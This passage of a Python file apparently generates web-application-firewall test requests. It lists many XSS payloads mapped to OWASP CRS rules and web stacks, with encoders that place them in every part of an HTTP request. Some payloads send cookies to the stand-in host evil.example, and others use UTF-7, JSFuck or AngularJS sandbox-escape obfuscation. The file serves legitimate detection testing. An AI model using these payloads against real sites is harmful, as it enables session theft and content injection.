    ("spring", "<?IMPORT NAMESPACE=x IMPLEMENTATION=//evil.example/x.htc>"),  # Spring
    ("laravel", "<?import namespace=\"v\" implementation=\"#default#VML\" ?>"),  # Laravel
    ("express", "<?import/implementation=//evil.example/x.htc>"),  # Express
    ("django", "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
               "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"x\">"),  # Django
    ("flask", "<?import namespace=\"x\" implementation = \"http://evil.example/x.htc\">"),  # Flask
    ("rails", "<import namespace=y implementation=#default#userData>"),  # Rails
    ("go", "<?import\nnamespace=\"t\"\nimplementation=\"#default#time2\">"),  # Go
    ("cgi", "<?import implementation=\"//evil.example/b.htc\" namespace=\"b\">"),  # CGI
]

IE_META_EQUIV: list[Entry] = [
    ("wp", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),  # WordPress
    ("aspnet", "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">"),  # ASP.NET
    ("spring", "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">"),  # Spring
    ("laravel", "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,"
                "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),  # Laravel: data: refresh
    ("express", "<meta/http-equiv=\"refresh\"/content=\"0;URL=//evil.example\">"),  # Express
    ("django", "<meta http-equiv=\"&#114;efresh\" content=\"0;url=//evil.example\">"),  # Django: entity
    ("flask", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">"),  # Flask
    ("rails", "<meta name=x http-equiv = 'Refresh' content='1;url=//evil.example'>"),  # Rails
    ("go", "<meta http-equiv=\"Link\" content=\"<//evil.example/x.css>; rel=stylesheet\">"),  # Go
    ("cgi", "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\">"),  # CGI
]

IE_META_CHARSET: list[Entry] = [
    ("wp", "<meta charset=\"UTF-7\">"),  # WordPress
    ("aspnet", "<META CHARSET=x-imap4-modified-utf7>"),  # ASP.NET
    ("spring", "<meta/charset=utf-7>"),  # Spring
    ("laravel", "<meta charset = \"ISO-2022-JP\">"),  # Laravel
    ("express", "<meta content=\"text/html\" charset=\"utf-16be\">"),  # Express
    ("django", "<meta name=viewport charset=shift_jis>"),  # Django
    ("flask", "<meta\tcharset=\"x-user-defined\">"),  # Flask
    ("rails", "<meta charset='UTF-7'>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),  # Rails
    ("go", "<meta charset=ibm037>"),  # Go
    ("cgi", "<meta http-equiv=content-type content=text/html charset=utf-7>"),  # CGI
]

IE_LINK: list[Entry] = [
    ("wp", "<link rel=\"stylesheet\" href=\"//evil.example/x.css\">"),  # WordPress
    ("aspnet", "<LINK REL=import HREF=//evil.example/x.html>"),  # ASP.NET
    ("spring", "<link href=\"javascript:alert(1)\" rel=stylesheet>"),  # Spring
    ("laravel", "<link/rel=icon/href=//evil.example/favicon.ico>"),  # Laravel
    ("express", "<link rel=\"preload\" as=\"script\" href=\"//evil.example/x.js\">"),  # Express
    ("django", "<link rel=prefetch href=\"//evil.example/track\">"),  # Django
    ("flask", "<link\trel=stylesheet\thref=data:text/css,body{display:none}>"),  # Flask
    ("rails", "<link rel=\"alternate\" type=\"application/rss+xml\" href = \"//evil.example/feed\">"),  # Rails
    ("go", "<link rel=dns-prefetch href=//exfil.evil.example>"),  # Go
    ("cgi", "<link rel=\"stylesheet\" href=\"//evil.example/x.css?c=\" media=\"all\">"),  # CGI
]

IE_BASE: list[Entry] = [
    ("wp", "<base href=\"//evil.example/\">"),  # WordPress
    ("aspnet", "<BASE HREF=\"javascript:alert(1)//\">"),  # ASP.NET
    ("spring", "<base/href=//evil.example/>"),  # Spring
    ("laravel", "<base target=_blank href=\"https://evil.example/\">"),  # Laravel
    ("express", "<base href = 'https://evil.example/assets/'>"),  # Express
    ("django", "<base\thref=\"//evil.example\">"),  # Django
    ("flask", "<base href=\"data:text/html,<script>alert(1)</script>\">"),  # Flask
    ("rails", "</title><base href=//evil.example/>"),  # Rails
    ("go", "<base href=\"http://127.0.0.1:8080/\">"),  # Go
    ("cgi", "<BaSe HrEf=//evil.example>"),  # CGI
]

IE_APPLET: list[Entry] = [
    ("wp", "<applet code=\"Evil.class\" codebase=\"//evil.example/\"></applet>"),  # WordPress
    ("aspnet", "<APPLET>"),  # ASP.NET
    ("spring", "<applet/archive=//evil.example/x.jar code=X>"),  # Spring
    ("laravel", "<applet\ncode=Exploit width=1 height=1>"),  # Laravel
    ("express", "<applet code=\"javascript:alert(1)\">"),  # Express
    ("django", "<applet archive=\"x.jar\" code=\"x.Main\" mayscript>"),  # Django
    ("flask", "<applet><param name=url value=//evil.example></applet>"),  # Flask
    ("rails", "<ApPlEt code=Evil>"),  # Rails
    ("go", "<applet\tcode=a.class>"),  # Go
    ("cgi", "<applet+code=x.class>"),  # CGI: plus as separator
]

IE_OBJECT: list[Entry] = [
    ("wp", "<object data=\"javascript:alert(1)\">"),  # WordPress
    ("aspnet", "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\" "
               "VALUE=\"//evil.example/x.csv\"></OBJECT>"),  # ASP.NET: IE Tabular Data Control
    ("spring", "<object type=\"text/x-scriptlet\" data=\"//evil.example/x.sct\"></object>"),  # Spring
    ("laravel", "<object codetype=application/java codebase=//evil.example/ code=X.class>"),  # Laravel
    ("express", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),  # Express
    ("django", "<object/data=//evil.example/x.swf>"),  # Django
    ("flask", "<object type=\"image/svg+xml\" data=\"//evil.example/x.svg\"></object>"),  # Flask
    ("rails", "<object code=\"Exploit.class\">"),  # Rails
    ("go", "<object\tdata=//evil.example/x.pdf>"),  # Go
    ("cgi", "<object data = \"//evil.example/x.html\" width=0>"),  # CGI
]

US_ASCII: list[Entry] = [
    ("cgi", "\u00bcscript\u00bealert(1)\u00bc/script\u00be"),  # CGI page served charset=us-ascii (IE)
    ("aspnet", "\u00bcimg src=x onerror=alert(1)\u00be"),  # ASP.NET, responseEncoding us-ascii
    ("tomcat", "\u00bcsvg/onload=alert(1)\u00be"),  # Tomcat JSP with pageEncoding US-ASCII
    ("php", "\u00bciframe src=javascript:alert(1)\u00be"),  # mod_php default_charset=us-ascii
    ("go", "\u00bcbody onload=alert(1)\u00be"),  # Go handler writing text/html; charset=us-ascii
    ("express", "x\u00be\u00bcscript\u00bealert(document.cookie)\u00bc/script\u00be"),  # Express
    ("rails", "\u00bca href=javascript:alert(1)\u00bex\u00bc/a\u00be"),  # Rails
    ("django", "\u00bcstyle\u00be@import'//evil.example/x.css';\u00bc/style\u00be"),  # Django
    ("flask", "\u00bcinput autofocus onfocus=alert(1)\u00be"),  # Flask
    ("wp", "\u00bcSCRIPT SRC=//evil.example/x.js\u00be\u00bc/SCRIPT\u00be"),  # WordPress
]

UTF7: list[Entry] = [
    ("aspnet", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),  # ASP.NET page without a charset (IE sniffing)
    ("cgi", "+ADw-img src=x onerror=alert(1)+AD4-"),  # CGI
    ("tomcat", "+ADw-svg/onload=alert(1)+AD4-"),  # Tomcat
    ("php", "+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),  # mod_php: quote breakout first
    ("go", "+ADw-iframe src=javascript:alert(1)+AD4-"),  # Go
    ("express", "+ADw-body onload=alert(1)+AD4-"),  # Express
    ("rails", "+ADw-a href=+ACI-javascript:alert(1)+ACI-+AD4-x+ADw-/a+AD4-"),  # Rails
    ("django", "x+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-y"),  # Django
    ("flask", "<script+AD4-alert(1)<+AC8-script+AD4-"),  # Flask: mixed raw and UTF-7
    ("wp", "+ADw-SCRIPT+AD4-alert(1)+ADw-+AC8-SCRIPT+AD4-"),  # WordPress
]

JSFUCK: list[Entry] = [
    ("express", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"),  # Express
    ("wp", "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]"),  # WordPress
    ("laravel", "(!![]+[])[+!+[]]"),  # Laravel
    ("spring", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]"
               "+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]"
               "+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])"
               "[!+[]+!+[]+!+[]]]"),  # Spring: constructor lookup
    ("aspnet", "+!+[]+!+[]"),  # ASP.NET
    ("django", "([][[]]+[])[+!+[]]"),  # Django
    ("flask", "(+{}+[])[+!![]]"),  # Flask: Hieroglyphy-style NaN letters
    ("rails", "([]+{})[!+[]+!+[]]"),  # Rails: "[object Object]" letters
    ("go", "(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]"),  # Go
    ("cgi", "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]"),
]

JS_GLOBAL: list[Entry] = [
    ("wp", "window[\"alert\"](1)"),  # WordPress
    ("laravel", "self['al'+'ert'](document.domain)"),  # Laravel
    ("spring", "top[/al/.source+/ert/.source](1)"),  # Spring
    ("aspnet", "this['eval']('alert(1)')"),  # ASP.NET
    ("express", "document['cookie']"),  # Express
    ("django", "window/**/.alert(1)"),  # Django
    ("flask", "top ['alert'](1)"),  # Flask
    ("rails", "self[atob('YWxlcnQ=')](1)"),  # Rails
    ("go", "window[`alert`](1)"),  # Go
    ("cgi", "document/*x*/.write(1)"),  # CGI
    ("tomcat", "this[\"constructor\"][\"constructor\"](\"alert(1)\")()"),  # Tomcat
    ("drupal", "window[String.fromCharCode(97,108,101,114,116)](1)"),  # Drupal
]

LIBINJECTION_PL2: list[Entry] = [
    ("wp", "<script>alert(1)</script>"),  # WordPress: 404 template echoing the request URI
    ("laravel", "\"><img src=x onerror=alert(1)>"),  # Laravel: url()->current() in a canonical link
    ("spring", "<svg onload=alert(1)>"),  # Spring: request.getRequestURI() in an error page
    ("aspnet", "<iframe src=javascript:alert(1)>"),  # ASP.NET: Request.RawUrl in a form action
    ("express", "'><body onload=alert(1)>"),  # Express: req.originalUrl in a link
    ("django", "<a href=javascript:alert(1)>x</a>"),  # Django: request.path in a template with |safe
    ("flask", "<details open ontoggle=alert(1)>"),  # Flask: request.path in a 404 handler
    ("rails", "<img src=1 onerror=confirm(1)>"),  # Rails: request.referer on a back link
    ("go", "<input autofocus onfocus=alert(1)>"),  # Go: r.URL.Path in text/template
    ("cgi", "<script src=//evil.example/x.js></script>"),  # CGI: PATH_INFO / HTTP_REFERER echoed
]

DISALLOWED_ATTR: list[Entry] = [
    ("wp", "<a href=\"//evil.example/\">click</a>"),  # WordPress
    ("laravel", "<img src=\"//evil.example/pixel.gif\">"),  # Laravel: tracking pixel
    ("spring", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">"),  # Spring: overlay
    ("aspnet", "\" style=\"background:red"),  # ASP.NET: attribute breakout
    ("express", "<iframe src=\"//evil.example\"></iframe>"),  # Express
    ("django", "' src='//evil.example/x.js"),  # Django
    ("flask", "<p style=background:url(//evil.example/x.png)>"),  # Flask
    ("rails", "<font style=\"font-size:99px\">owned</font>"),  # Rails
    ("go", "<a href = 'https://evil.example/login'>login</a>"),  # Go
    ("cgi", "<img src=x>"),  # CGI
]

TAG_HANDLER: list[Entry] = [
    ("wp", "<marquee>owned</marquee>"),  # WordPress
    ("laravel", "<blink>click here</blink>"),  # Laravel
    ("spring", "<h1>Site moved, log in at evil.example</h1>"),  # Spring: content injection
    ("aspnet", "<bgsound src=//evil.example/x.wav>"),  # ASP.NET (IE)
    ("express", "<textarea>"),  # Express: swallow the rest of the page
    ("django", "<plaintext>"),  # Django
    ("flask", "<xmp><script>alert(1)</script></xmp>"),  # Flask
    ("rails", "<layer src=//evil.example/x.html></layer>"),  # Rails (Netscape layer)
    ("go", "<table background=//evil.example/x.png>"),  # Go
    ("cgi", "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"),  # CGI (IE data island)
    ("tomcat", "<div id=x>fake login</div>"),  # Tomcat
    ("drupal", "<form action=//evil.example><input name=user></form>"),  # Drupal
]

JS_STRING_BREAKOUT: list[Entry] = [
    ("wp", "';location='//evil.example/?'+document.cookie;//"),  # WordPress: wp_localize_script value
    ("laravel", "\"-(location='javascript:alert(1)')-\""),  # Laravel: @json-less inline var
    ("spring", "';name='x';//"),  # Spring: JSP var in a script block
    ("aspnet", "\";onerror=alert;throw 1;//"),  # ASP.NET: <%= %> in a script block
    ("express", "'; \\u006cocation='//evil.example';//"),  # Express: EJS <%- %> in a script
    ("django", "'+(valueOf=alert,window+'')+'"),  # Django: |escapejs missing
    ("flask", "\"in(location='//evil.example');//"),  # Flask: Jinja without |tojson
    ("rails", "'-(onerror=alert)-'"),  # Rails: raw in a script block
    ("go", "\";top.name='x';//"),  # Go: text/template in a script
    ("cgi", "';location.href='//evil.example';//"),  # CGI
    ("tomcat", "\"};location='javascript:alert(1)';{\""),  # Tomcat: JSON built by string concatenation
]

JS_PROPERTY_ASSIGN: list[Entry] = [
    ("wp", "\";document.location='//evil.example';//"),  # WordPress
    ("laravel", "';window.name='x';//"),  # Laravel
    ("spring", "\"in(document.body.innerHTML='x')//"),  # Spring
    ("aspnet", "');document.cookie='a=b';//"),  # ASP.NET
    ("express", "'};self.location.href='//evil.example';//"),  # Express
    ("django", "\"-(document.domain='example.org')-\""),  # Django
    ("flask", "';this.src='//evil.example';//"),  # Flask
    ("rails", "\"};top.location.hash='x';{\""),  # Rails
    ("go", "');document.forms[0].action='//evil.example';//"),  # Go
    ("cgi", "';img.src='//evil.example/?c='+document.cookie;//"),  # CGI
]

ANGULAR: list[Entry] = [
    ("express", "{{constructor.constructor('alert(1)')()}}"),  # Express + AngularJS 1.6+ front end
    ("spring", "{{$on.constructor('alert(1)')()}}"),  # Spring + AngularJS
    ("aspnet", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}"),  # ASP.NET + AngularJS 1.4
    ("wp", "{{[].pop.constructor('alert(1)')()}}"),  # WordPress plugin with an AngularJS admin
    ("laravel", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),  # Laravel
    ("django", "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
               "[\"a\",\"alert(1)\"].sort(toString.constructor)}}"),  # Django + AngularJS 1.2
    ("flask", "{{$eval.constructor('alert(1)')()}}"),  # Flask + AngularJS
    ("rails", "{{7*7}}"),  # Rails + AngularJS: probe
    ("go", "<div ng-app>{{$new.constructor('alert(1)')()}}</div>"),  # Go
    ("cgi", "{{'x'.constructor.fromCharCode=[].join}}"),  # CGI
    ("drupal", "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">"),  # Drupal
]

JS_METHOD: list[Entry] = [
    ("express", "eval('al'+'ert(1)')"),  # Express
    ("wp", "setTimeout('alert(1)',0)"),  # WordPress
    ("laravel", "setInterval(\"alert(document.domain)\",1000)"),  # Laravel
    ("spring", "new Function('alert(1)')()"),  # Spring
    ("aspnet", "alert(document.domain)"),  # ASP.NET
    ("django", "eval(atob('YWxlcnQoMSk='))"),  # Django
    ("flask", "fetch('//evil.example/?c='+btoa(document.cookie))"),  # Flask
    ("rails", "prompt(1)"),  # Rails
    ("go", "confirm (1)"),  # Go
    ("cgi", "eval\t(location.hash.substr(1))"),  # CGI
]

NO_PARENS: list[Entry] = [
    ("express", "alert`1`"),  # Express
    ("wp", "onerror=alert;throw 1"),  # WordPress
    ("laravel", "[1].find(alert)"),  # Laravel
    ("spring", "setTimeout`alert\\x281\\x29`"),  # Spring
    ("aspnet", "throw onerror=eval,'=alert\\x281\\x29'"),  # ASP.NET
    ("django", "{onerror=alert}throw 1"),  # Django
    ("flask", "location=name"),  # Flask
    ("rails", "valueOf=alert;window+''"),  # Rails
    ("go", "[].sort.call`${alert}1337`"),  # Go
    ("cgi", "top.onerror=alert;throw document.domain"),  # CGI
    ("tomcat", "Reflect.apply.call`${alert}${window}${[1]}`"),  # Tomcat
]

# (category, sub-family, payloads), in title order
TITLES: list[tuple[str, str, list[Entry]]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG),  # 933100
    ("php", "php-script-file-upload", PHP_UPLOAD),  # 933110
    ("php", "php-configuration-directive", PHP_CONFIG),  # 933120
    ("php", "php-variables", PHP_VARS),  # 933130
    ("php", "php-io-stream", PHP_IO),  # 933140
    ("php", "php-wrapper-scheme", PHP_WRAPPER),  # 933200
    ("php", "php-high-risk-function-name", PHP_HIGH_NAME),  # 933150
    ("php", "php-high-risk-function-call", PHP_HIGH_CALL),  # 933160
    ("php", "php-serialized-object-injection", PHP_SERIALIZED),  # 933170
    ("php", "php-variable-function-call", PHP_VARFN),  # 933180
    ("php", "php-variable-function-call-expression", PHP_VARFN_EXPR),  # 933210
    ("php", "php-medium-risk-function-name", PHP_MEDIUM_NAME),  # 933151
    ("xss", "xss-libinjection", XSS_LIBINJECTION),  # 941100
    ("xss", "xss-script-tag-vector", XSS_SCRIPT),  # 941110
    ("xss", "xss-event-handler-vector", XSS_EVENT),  # 941120
    ("xss", "xss-attribute-vector", XSS_ATTRIBUTE),  # 941130
    ("xss", "xss-javascript-uri-vector", XSS_JS_URI),  # 941140
    ("xss", "noscript-html-injection", NOSCRIPT_HTML),  # 941160
    ("xss", "noscript-attribute-injection", NOSCRIPT_ATTR),  # 941170
    ("xss", "node-validator-blacklist-keywords", NODE_VALIDATOR),  # 941180
    ("xss", "ie-xss-filters-style", IE_STYLE),  # 941190
    ("xss", "ie-xss-filters-vmlframe", IE_VMLFRAME),  # 941200
    ("xss", "ie-xss-filters-javascript-obfuscated", IE_JS_OBFUSCATED),  # 941210
    ("xss", "ie-xss-filters-vbscript", IE_VBSCRIPT),  # 941220
    ("xss", "ie-xss-filters-embed", IE_EMBED),  # 941230
    ("xss", "ie-xss-filters-import-implementation", IE_IMPORT),  # 941240
    ("xss", "ie-xss-filters-meta-http-equiv", IE_META_EQUIV),  # 941250
    ("xss", "ie-xss-filters-meta-charset", IE_META_CHARSET),  # 941260
    ("xss", "ie-xss-filters-link-href", IE_LINK),  # 941270
    ("xss", "ie-xss-filters-base-href", IE_BASE),  # 941280
    ("xss", "ie-xss-filters-applet", IE_APPLET),  # 941290
    ("xss", "ie-xss-filters-object", IE_OBJECT),  # 941300
    ("xss", "us-ascii-malformed-encoding", US_ASCII),  # 941310
    ("xss", "utf7-encoding-ie-xss", UTF7),  # 941350
    ("xss", "jsfuck-hieroglyphy-obfuscation", JSFUCK),  # 941360
    ("xss", "javascript-global-variable", JS_GLOBAL),  # 941370
    ("xss", "xss-libinjection-pl2", LIBINJECTION_PL2),  # 941101
    ("xss", "xss-disallowed-html-attributes", DISALLOWED_ATTR),  # 941150
    ("xss", "xss-html-tag-handler", TAG_HANDLER),  # 941320
    ("xss", "ie-xss-filters-js-string-breakout", JS_STRING_BREAKOUT),  # 941330
    ("xss", "ie-xss-filters-js-property-assignment", JS_PROPERTY_ASSIGN),  # 941340
    ("xss", "angularjs-template-injection", ANGULAR),  # 941380
    ("xss", "javascript-method", JS_METHOD),  # CRS 4.x: Javascript method detected
    ("xss", "xss-function-without-parentheses", NO_PARENS),  # CRS 4.x: JavaScript function without parentheses
]

# ---------------------------------------------------------------------------------------------------------------
# How each stack carries a value
# ---------------------------------------------------------------------------------------------------------------
PHP_STACKS = {"wp", "laravel", "drupal", "php", "php-cgi", "iis-php"}
RAW_QUERY_STACKS = {"php-cgi", "cgi"}   # the whole query string is the value (argv / QUERY_STRING)
LIST_STACKS = {"django", "flask"}       # repeated keys: request.GET.getlist / request.form.getlist

# the parameter names each stack's own forms use (rotating)
STACK_NAMES: dict[str, list[str]] = {
    "wp": ["s", "comment", "tax_input[post_tag][]", "meta_input[bio]"],
    "laravel": ["filter[name]", "items[]", "search", "profile[about]"],
    "drupal": ["name[0][value]", "body[0][value]", "keys", "field_tags[0][target_id]"],
    "php": ["page", "q", "data[]", "opts[tpl]"],
    "php-cgi": ["q"],
    "iis-php": ["q", "file", "lang"],
    "spring": ["user.name", "q", "filter.keyword", "items[0].title"],
    "struts": ["searchForm.keyword", "user.comment", "keyword"],
    "tomcat": ["q", "name", "msg"],
    "aspnet": ["ctl00$MainContent$txtSearch", "__EVENTARGUMENT", "txtComment", "ctl00$body$tbName"],
    "express": ["user[profile][bio]", "q", "tags[0]", "opts[title]"],
    "django": ["tags", "q", "comment"],
    "flask": ["q", "items", "next"],
    "rails": ["user[name]", "post[body]", "post[tag_list][]", "search[q]"],
    "go": ["q", "name", "filter"],
    "cgi": ["q", "name", "keywords"],
}
STACK_HEADER = {
    "wp": "X-WP-Nonce", "laravel": "X-XSRF-TOKEN", "drupal": "X-CSRF-Token", "php": "X-Forwarded-Host",
    "php-cgi": "X-Forwarded-For", "iis-php": "X-Original-URL", "spring": "X-Forwarded-Prefix",
    "struts": "X-Requested-With", "tomcat": "X-Forwarded-Host", "aspnet": "X-Original-URL",
    "express": "X-Forwarded-Host", "django": "X-Forwarded-Host", "flask": "X-Forwarded-Prefix",
    "rails": "X-Forwarded-Host", "go": "X-Request-Id", "cgi": "X-Forwarded-For",
}
STACK_COOKIE = {
    "wp": "wp-settings-1", "laravel": "filters", "drupal": "Drupal.visitor.name", "php": "lang", "php-cgi": "q",
    "iis-php": "lang", "spring": "locale", "struts": "WW-Trans-I18n-Locale", "tomcat": "theme",
    "aspnet": "culture", "express": "prefs", "django": "recent_search", "flask": "last_query",
    "rails": "remember_query", "go": "q", "cgi": "query",
}
STACK_UA = {
    "aspnet": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "iis-php": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
}

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom", "param-name",
        "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_HEADERS = ["X-Custom-Header", "X-Foo", "X-Test"]
LINE_SAFE = {"cookie", "header:User-Agent", "header:Referer", "header:X-Custom", "multipart-filename",
             "rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie"}
BOUNDARY = "----WebKitFormBoundaryq8X3Zb1mN0pR7tLs"


def pct_u(value: str) -> str:
    """IIS / ASP.NET %uXXXX encoding of everything but letters and digits."""
    return "".join(c if c.isascii() and c.isalnum() else f"%u{ord(c):04X}" for c in value)


def enc(stack: str, value: str, sub: str) -> str:
    """A query or form value as the stack's clients encode it."""
    if stack == "aspnet":
        return pct_u(value)
    if sub == "us-ascii-malformed-encoding":   # the bytes 0xBC / 0xBE themselves, as a us-ascii page posts them
        return urllib.parse.quote(value, safe="", encoding="latin-1")
    return urllib.parse.quote(value, safe="")


def pairs(stack: str, name: str, value: str, sub: str) -> str:
    """name=value the way the stack's forms send it (Django / Flask: a repeated key with a harmless first value)."""
    n = urllib.parse.quote(name, safe="[]")
    v = enc(stack, value, sub)
    if stack in LIST_STACKS:
        return f"{n}=alpha&{n}={v}"
    return f"{n}={v}"


def stack_doc(stack: str, name: str, value: str) -> dict[str, Any]:
    """A JSON body the stack's API expects, with the value where its handler reads it."""
    if stack == "wp":
        return {"title": "Draft", "status": "draft", "content": value, "meta": {name: value}}
    if stack == "drupal":
        return {"data": {"type": "node--article", "attributes": {"title": value}}}
    if stack in PHP_STACKS:
        return {"filter": {name: value}, "page": 1}
    if stack in {"spring", "struts", "tomcat", "rails"}:
        return {"user": {"name": value, "email": "a@example.org"}}
    if stack == "aspnet":
        return {"Name": value, "Email": "a@example.org", "__RequestVerificationToken": "CfDJ8Nq2x"}
    if stack == "express":
        return {"user": {"profile": {"bio": value, "tags": ["a"]}}}
    if stack in LIST_STACKS:
        return {"tags": ["alpha", value], "page": 1}
    return {"query": value, "limit": 20}


def xml_text(value: str) -> str:
    if ("<" in value or "&" in value) and "]]>" not in value:
        return f"<![CDATA[{value}]]>"
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def stack_xml(stack: str, value: str) -> str:
    """An XML body the stack parses (XML-RPC for WordPress, DataContract for ASP.NET, Rails' XML params)."""
    text = xml_text(value)
    if stack in {"wp", "php", "iis-php"}:
        return ("<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>"
                f"<string>{text}</string></value></param></params></methodCall>")
    if stack == "aspnet":
        return f"<User xmlns=\"http://schemas.datacontract.org/2004/07/App\"><Name>{text}</Name></User>"
    if stack == "rails":
        return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>{text}</name></user>"
    return f"<?xml version=\"1.0\"?><user><name>{text}</name><email>a@example.org</email></user>"


def filename_of(value: str) -> str:
    """A filename as browsers put it in Content-Disposition (quote and line breaks percent-encoded)."""
    return value.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")


def multipart(uri: str, parts: list[tuple[str, str, str | None]]) -> dict[str, Any]:
    """A multipart/form-data POST: (field name, content, filename or None) each."""
    body = []
    for field, content, filename in parts:
        disp = f"form-data; name=\"{field}\""
        if filename is not None:
            disp += f"; filename=\"{filename_of(filename)}\""
            body.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\nContent-Type: image/jpeg\r\n\r\n{content}\r\n")
        else:
            body.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n\r\n{content}\r\n")
    body.append(f"--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(body),
            "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def cookie_value(stack: str, value: str) -> str:
    """A cookie value as the stack decodes it: Express cookie-parser's j: JSON cookies, PHP / Rails / Django
    URL-decoding; Java, .NET and Go read them raw, so only cookie-unsafe payloads are percent-encoded there."""
    if stack == "express":
        return urllib.parse.quote("j:" + json.dumps({"q": value}, ensure_ascii=False), safe="")
    raw_ok = all(c.isascii() and c.isprintable() and c not in " ;,\"\\" for c in value)
    if stack in {"spring", "struts", "tomcat", "aspnet", "go"} and raw_ok:
        return value
    return urllib.parse.quote(value, safe="")


def ours(place: str, stack: str, name: str, value: str, sub: str) -> dict[str, Any]:
    """The payload in one of our own routes' inputs."""
    ua = STACK_UA.get(stack, UA)
    if place == "query":
        if stack in RAW_QUERY_STACKS:
            return with_headers(_get("/api/users?" + urllib.parse.quote_plus(value)), {"User-Agent": ua})
        return with_headers(_get("/api/users?" + pairs(stack, name, value, sub) + "&page=1"), {"User-Agent": ua})
    if place == "form":
        rec = _form("/admin/users/search", [("csrf_token", "t0k3n")])
        return with_headers({**rec, "body": rec["body"] + "&" + pairs(stack, name, value, sub)}, {"User-Agent": ua})
    if place == "json":
        return with_headers(_json("/api/users", stack_doc(stack, name, value)), {"User-Agent": ua})
    if place == "cookie":
        return with_headers(_get("/api/users?page=1"),
                            {"User-Agent": ua, "Cookie": f"session=8f14e45fceea167a; {STACK_COOKIE[stack]}="
                                                         + cookie_value(stack, value)})
    if place == "header:User-Agent":
        return with_headers(_get("/api/users?page=1"), {"User-Agent": value})
    if place == "header:Referer":
        return with_headers(_get("/api/users?page=2"), {"User-Agent": ua, "Referer": value})
    if place == "header:X-Custom":
        return with_headers(_get("/api/users?page=1"), {"User-Agent": ua, STACK_HEADER[stack]: value})
    if place == "param-name":
        key = pct_u(value) if stack == "aspnet" else urllib.parse.quote(value, safe="")
        return with_headers(_get(f"/api/users?{key}=1&page=1"), {"User-Agent": ua})
    if place == "xml":
        rec = _json("/api/users", {})
        return {**rec, "body": stack_xml(stack, value),
                "headers": {"User-Agent": ua, "Accept": "application/xml", "Content-Type": "application/xml"}}
    if place == "multipart-field":
        return with_headers(multipart("/api/users/42/profile", [("display", "Ann", None), (name, value, None)]),
                            {"User-Agent": ua})
    if place == "multipart-filename":
        return with_headers(multipart("/api/users/42/avatar", [("title", "avatar", None), ("file", "GIF89a;", value)]),
                            {"User-Agent": ua})
    if place == "header:X-Filename":
        rec = _get("/api/users/42/avatar")
        return {**rec, "method": "POST", "body": "GIF89a;",
                "headers": {"User-Agent": ua, "Content-Type": "application/octet-stream", "X-Filename": value}}
    if place == "path":
        seg = pct_u(value) if stack == "aspnet" else urllib.parse.quote(value, safe="")
        if stack in {"spring", "struts", "tomcat"}:   # Tomcat's matrix parameters
            return with_headers(_get(f"/api/users;jsessionid=1F2E3D4C;q={seg}"), {"User-Agent": ua})
